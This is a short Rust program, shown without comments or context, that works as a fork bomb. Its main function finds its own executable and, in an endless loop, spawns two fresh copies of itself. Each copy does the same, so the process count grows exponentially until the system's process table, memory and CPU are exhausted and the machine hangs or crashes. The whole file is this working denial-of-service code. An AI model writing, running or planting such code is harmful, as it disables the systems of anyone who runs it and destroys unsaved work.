use std::process::Command;
fn main() {
    let own = std::env::current_exe().unwrap();
    loop {
        let _ = Command::new(&own).spawn();
        let _ = Command::new(&own).spawn();
    }
}
